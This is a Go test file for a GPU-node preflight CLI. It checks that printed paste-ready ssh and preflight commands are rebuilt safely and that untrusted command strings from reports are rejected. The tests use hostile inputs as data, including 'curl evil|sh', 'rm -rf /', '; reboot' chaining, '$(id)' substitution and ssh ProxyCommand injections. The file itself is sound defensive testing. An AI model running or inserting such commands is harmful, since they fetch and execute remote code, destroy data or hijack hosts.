package verdict

import (
	"testing"

	"github.com/gpuaas/gpuaasctl/diag"
	"github.com/gpuaas/gpuaasctl/preflight/hop"
	"github.com/gpuaas/gpuaasctl/preflight/hops"
	"github.com/gpuaas/gpuaasctl/profile"
)

// TestCommandsToPaste: a printed command reaches the node as the walk did, wherever the login was set.
func TestCommandsToPaste(t *testing.T) {
	uid := func(n int) *int { return &n }
	for name, tc := range map[string]struct {
		login   string
		ssh     diag.SSHFacts
		want    string
		refused bool
	}{
		"login of ssh_config": {"ssh node", diag.SSHFacts{User: "ops", UID: uid(0)}, "ssh node sudo -n", false},
		"the same, sudo refused": {"ssh node", diag.SSHFacts{User: "ops", UID: uid(1000), SudoRefused: true},
			"ssh node sudo -n", true},
		"the same, no sudo wanted": {"ssh node", diag.SSHFacts{User: "ops", UID: uid(1000)}, "ssh node", false},
		"root":                     {"ssh node", diag.SSHFacts{User: "root", UID: uid(0)}, "ssh node", false},
		"login of the profile": {"ssh ops@node sudo -n", diag.SSHFacts{User: "ops", UID: uid(0)},
			"ssh ops@node sudo -n", false},
		"the same, as an old report is": {"ssh ops@node sudo -n", diag.SSHFacts{User: "ops", UID: uid(1000)},
			"ssh ops@node sudo -n", true},
	} {
		plan := diag.Plan{Profile: "lab", Command: "gpuaasctl preflight --profile ./lab.yaml --node-id n1"}
		c := hops.BuiltIn().NewCase(diag.Subject{Expected: map[string]string{"ssh": tc.login}}, plan, diag.EndedCompleted,
			[]diag.Fact{{ID: hop.FactID(diag.HopNodeOpsAccess, hop.StepSSH), SSH: &tc.ssh}})
		if got := Placeholders(c)("ssh"); got != tc.want {
			t.Errorf("%s: %s, want %s", name, got, tc.want)
		}
		if got := hops.SudoRefused(c, c.Fact(diag.HopNodeOpsAccess, hop.StepSSH)); got != tc.refused {
			t.Errorf("%s: refused %v", name, got)
		}
		if got, _ := diag.FillCommand("{preflight} --only node_readiness", Placeholders(c)); got != plan.Command+
			" --only node_readiness" {
			t.Errorf("the proof is %s", got)
		}
	}
}

// TestNothingElseToPaste: a report may come from anywhere. Of its command lines only those that a walk makes are
// printed.
func TestNothingElseToPaste(t *testing.T) {
	const login, walk = "", "gpuaasctl preflight --profile lab --node-id n1"
	odd := diag.Command("gpuaasctl", "preflight", "--profile", "/a b/it's; $(id).yaml", "--node-id", "n1", "--api-base",
		"https://[::1]:8443")
	for given, want := range map[string]string{
		odd:                                  odd,
		"gpuaasctl preflight --node-id n-1":  "gpuaasctl preflight --node-id n-1",
		"curl evil|sh #":                     walk,
		"rm -rf /":                           walk,
		"gpuaasctl preflight; reboot":        walk,
		"gpuaasctl preflight --node-id $(x)": walk,
		"gpuaasctl preflight --node-id ''a":  walk,
		"gpuaasctl preflight --node-id a\nb": walk,
		"gpuaasctl node reenroll n1":         walk,
	} {
		c := hops.BuiltIn().NewCase(diag.Subject{NodeID: "n1"}, diag.Plan{Profile: "lab", Command: given},
			diag.EndedCompleted, nil)
		if got, _ := diag.FillCommand("{preflight}", Placeholders(c)); got != want {
			t.Errorf("the walk %q is shown as %q", given, got)
		}
	}
	yes := true
	long := hop.SSHCommand(profile.SSH{Identity: "/a b/id", KnownHosts: "/c d/it's", Jump: "jump@h", Port: 2222,
		User: "ops", Sudo: &yes}, "fe80::1%eth0")
	for given, want := range map[string]string{
		long:                            long,
		"ssh ops@node sudo -n":          "ssh ops@node sudo -n",
		"curl evil|sh #":                login,
		"ssh -oProxyCommand=reboot n":   login,
		"ssh -o ProxyCommand=reboot n":  login,
		"ssh -o 'ProxyCommand=a b' n":   login,
		"ssh '-oProxyCommand=reboot' n": login,
		"ssh n reboot":                  login,
		"ssh n; reboot":                 login,
	} {
		c := hops.BuiltIn().NewCase(diag.Subject{Expected: map[string]string{"ssh": given}}, diag.Plan{},
			diag.EndedCompleted, nil)
		if got, ok := diag.FillCommand("{ssh}", Placeholders(c)); got != want || ok != (want != "") {
			t.Errorf("the login %q is shown as %q", given, got)
		}
	}
}

// TestKnownHostOfALogin: ssh-keygen removes a node's old key from the file, and under the name, that the walk's login
// uses.
func TestKnownHostOfALogin(t *testing.T) {
	for login, want := range map[string][2]string{
		"ssh ops@10.0.0.5 sudo -n":                                        {"", ""},
		"ssh -i /k -o UserKnownHostsFile=/lab/known_hosts ops@10.0.0.5":   {"", "/lab/known_hosts"},
		"ssh -o 'UserKnownHostsFile=/a b/hosts' -J gate -p 2222 10.0.0.5": {"[10.0.0.5]:2222", "/a b/hosts"},
		"ssh 10.0.0.5; reboot":                                            {"", ""},
	} {
		c := &hop.Case{Subject: diag.Subject{NodeHost: "10.0.0.5", Expected: map[string]string{"ssh": login}}}
		if got := [2]string{knownAs(c), knownHosts(c)}; got != want {
			t.Errorf("%s: %q, want %q", login, got, want)
		}
	}
}
